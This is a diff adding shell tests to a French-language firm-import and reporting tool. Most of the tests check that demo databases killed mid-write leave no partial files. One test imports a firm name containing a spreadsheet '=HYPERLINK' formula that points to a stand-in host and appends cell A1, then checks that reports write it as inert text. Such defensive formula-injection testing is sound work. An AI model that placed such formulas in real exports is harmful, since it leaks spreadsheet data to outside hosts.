@@ -92,6 +92,20 @@ else
   not_ok "French messages put a space before the colon after the command"
 fi
 
+# A firm's name that is a spreadsheet formula reaches no CSV as a formula.
+printf 'Raison sociale;Code postal\n"=HYPERLINK(""http://exemple.invalid/""&A1;""Voir"")";46100\n' >"$tmp/formule.csv"
+fdb="$tmp/formule.db"
+run "$PASSERELLE" import firms "$tmp/formule.csv" --database "$fdb"
+fid=$(sql "$fdb" "SELECT id FROM company WHERE legal_name LIKE '=HYPERLINK%'")
+for kind in company campaign; do
+  run "$PASSERELLE" report "$kind" --company "$fid" --output "$tmp/$kind.csv" --database "$fdb"
+  if [ "$rc" -eq 0 ] && grep -q "'=HYPERLINK" "$tmp/$kind.csv" && ! grep -Eq '(^|[;,])"?=' "$tmp/$kind.csv"; then
+    ok "report $kind writes a firm named as a formula into its CSV as text"
+  else
+    not_ok "report $kind writes a firm named as a formula into its CSV as text (rc=$rc, firm '$fid')"
+  fi
+done
+
 # Free texts of the command line are bounded: a pasted file is refused at once.
 long=$(head -c 64000 /dev/zero | tr '\0' 'x')
 run "$PASSERELLE" report campaign --signatory "$long" --output "$tmp/lettres.pdf" --database "$db"
@@ -173,6 +187,74 @@ if [ ! -e "$tmp/nouveau.db" ]; then
   ok "demo --large killed while at work leaves nothing under the file's name"
 else
   not_ok "demo --large killed while at work leaves nothing under the file's name"
+fi
+
+# What a killed demo left is removed by the next demo of the same file,
+# but never what a living demo still holds.
+leftovers () {
+  ls -a "$(dirname "$1")" | grep -F "$(basename "$1")." | grep -v '\.key$' || true
+}
+parts () {
+  ls "$1".part-* 2>/dev/null | grep -cv -- '-wal$\|-shm$\|-journal$' || true
+}
+stale=$(parts "$demo")
+logs () {
+  ls "$1".part-*-wal 2>/dev/null | wc -l
+}
+stale_logs=$(logs "$demo")
+"$PASSERELLE" demo --large --force "$demo" >/dev/null 2>&1 &
+living=$!
+# Its log is made once its file is open, and so locked.
+deadline=$(($(date +%s) + 60))
+until [ "$(logs "$demo")" -gt "$stale_logs" ]; do
+  [ "$(date +%s)" -le "$deadline" ] && kill -0 "$living" 2>/dev/null || break
+  sleep 0.05
+done
+# The leftover of the kill above, and the part the living demo writes.
+held=$(ls "$demo".part-* 2>/dev/null | sort)
+run "$PASSERELLE" demo "$demo"
+still=$(ls "$demo".part-* 2>/dev/null | sort)
+if [ "$rc" -eq 1 ] && grep -q "existe déjà" "$tmp/err" && kill -0 "$living" 2>/dev/null \
+   && [ "$stale" -ge 1 ] && [ "$(parts "$demo")" -eq 1 ] && [ "$(echo "$held" | grep -c .)" -gt 0 ]; then
+  ok "the next demo removes a killed demo's partial file and keeps a living demo's"
+else
+  not_ok "the next demo removes a killed demo's partial file and keeps a living demo's (rc=$rc; before: $held; after: $still)"
+fi
+kill -9 "$living" 2>/dev/null || true
+wait "$living" 2>/dev/null || true
+
+# A demo killed at any moment: from its first instant to its last, the
+# file is absent or a whole demonstration, and the next demo leaves
+# nothing of it behind.  The moments: at once, as soon as the partial file
+# is there, as soon as its log grows, and at random delays.
+fresh="$tmp/tue.db"
+for moment in at-once part wal random random random; do
+  "$PASSERELLE" demo --force "$fresh" >/dev/null 2>&1 &
+  pid=$!
+  case $moment in
+    part|wal)
+      deadline=$(($(date +%s) + 60))
+      until { [ "$moment" = part ] && ls "$fresh".part-* >/dev/null 2>&1; } \
+            || { [ "$moment" = wal ] && [ "$(stat -c %s "$fresh".part-*-wal 2>/dev/null | head -1)" -gt 0 ] 2>/dev/null; }; do
+        [ "$(date +%s)" -le "$deadline" ] && kill -0 "$pid" 2>/dev/null || break
+        sleep 0.01
+      done ;;
+    random) sleep "$(awk -v s="$$$n" 'BEGIN { srand(s); printf "%.2f", rand() * 3 }')" ;;
+  esac
+  kill -9 "$pid" 2>/dev/null || true
+  wait "$pid" 2>/dev/null || true
+  if [ -e "$fresh" ] && { [ "$(sql "$fresh" "SELECT value FROM meta WHERE key = 'demo'")" != 1 ] \
+                          || [ "$(sql "$fresh" "PRAGMA quick_check")" != ok ]; }; then
+    not_ok "demo killed ($moment) left a file that is not a whole demonstration under its name"
+  else
+    ok "demo killed ($moment) left nothing or a whole demonstration under its name"
+  fi
+done
+run "$PASSERELLE" demo --force "$fresh"
+if [ "$rc" -eq 0 ] && [ -z "$(leftovers "$fresh")" ] && [ "$(sql "$fresh" "PRAGMA quick_check")" = ok ]; then
+  ok "after demos killed at any moment, the next demo leaves no temporary file"
+else
+  not_ok "after demos killed at any moment, the next demo leaves no temporary file (rc=$rc; left: $(leftovers "$fresh"))"
 fi
 
 echo "1..$n"
